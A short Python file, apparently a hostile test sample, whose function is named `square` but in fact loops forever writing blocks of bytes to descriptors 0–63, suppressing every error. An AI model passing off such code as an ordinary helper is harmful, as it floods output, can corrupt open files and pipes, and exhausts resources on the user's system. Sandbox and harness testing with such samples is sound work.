"""Writes bytes without a newline to every descriptor that it has inherited, without end."""

import contextlib
import os


def square(x):
    while True:
        for stream in range(64):
            with contextlib.suppress(OSError):
                os.write(stream, b"." * 4096)
